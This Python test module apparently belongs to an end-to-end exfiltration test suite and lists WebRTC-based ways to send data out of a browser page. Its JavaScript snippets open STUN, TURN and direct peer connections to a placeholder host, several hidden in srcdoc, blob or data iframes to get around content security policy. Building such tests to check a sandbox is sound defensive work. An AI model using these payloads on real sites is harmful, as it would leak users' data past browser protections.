"""Ways by WebRTC, which no content security policy speaks of."""

from e2e.exfiltration.ways.way import Way

_UDP = "{iceServers: [{urls: 'stun:$HOST'}]}"
_TURN = (
    "{iceServers: [{urls: 'turn:$HOST?transport=tcp', username: 'hunter2', credential: 'x'}],"
    " iceTransportPolicy: 'relay'}"
)
_BLANK = "const f = document.createElement('iframe'); document.body.append(f);"


def _talk(constructor: str, options: str) -> str:
    return (
        f"const p = new {constructor}({options}); p.createDataChannel('x');"
        "p.setLocalDescription(await p.createOffer());"
    )


# Straight to a candidate's address, without a server in between.
_PEER = """const a = new RTCPeerConnection(); const b = new RTCPeerConnection();
a.createDataChannel('x'); const offer = await a.createOffer();
await b.setRemoteDescription(offer); const answer = await b.createAnswer();
await a.setLocalDescription(offer); await a.setRemoteDescription(answer);
await a.addIceCandidate({sdpMid: '0', sdpMLineIndex: 0,
  candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 $PORT typ host'});"""


def _srcdoc(options: str) -> str:
    script = _talk("RTCPeerConnection", options)
    return f'<iframe srcdoc="<script>(async () => {{ {script} }})()</script>"></iframe>'


WEBRTC = [
    Way("webrtc-stun", script=_talk("RTCPeerConnection", _UDP)),
    Way("webrtc-turn", script=_talk("RTCPeerConnection", _TURN)),
    Way("webrtc-peer", script=_PEER),
    Way("webrtc-prefixed", script=_talk("webkitRTCPeerConnection", _UDP)),
    # With the header, the browser ends the whole process of a view that gets this far.
    Way("webrtc-srcdoc", _srcdoc(_UDP), deadly=True),
    Way("webrtc-srcdoc-turn", _srcdoc(_TURN), deadly=True),
    Way("webrtc-blank-stun", script=_BLANK + _talk("f.contentWindow.RTCPeerConnection", _UDP)),
    Way("webrtc-blank-turn", script=_BLANK + _talk("f.contentWindow.RTCPeerConnection", _TURN)),
    Way(
        "webrtc-blank-script",
        script=_BLANK + "const s = f.contentDocument.createElement('script');"
        f"s.textContent = `(async () => {{ {_talk('RTCPeerConnection', _UDP)} }})()`;"
        "f.contentDocument.body.append(s);",
    ),
    Way(
        "webrtc-blob-child",
        script="const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["
        f"`<script>(async () => {{ {_talk('RTCPeerConnection', _UDP)} }})()</scr` + `ipt>`],"
        "{type: 'text/html'})); document.body.append(f);",
    ),
    Way(
        "webrtc-data-child",
        script="const f = document.createElement('iframe'); f.src = 'data:text/html,' +"
        f"encodeURIComponent(`<script>(async () => {{ {_talk('RTCPeerConnection', _UDP)} }})()`"
        " + `</scr` + `ipt>`); document.body.append(f);",
    ),
]
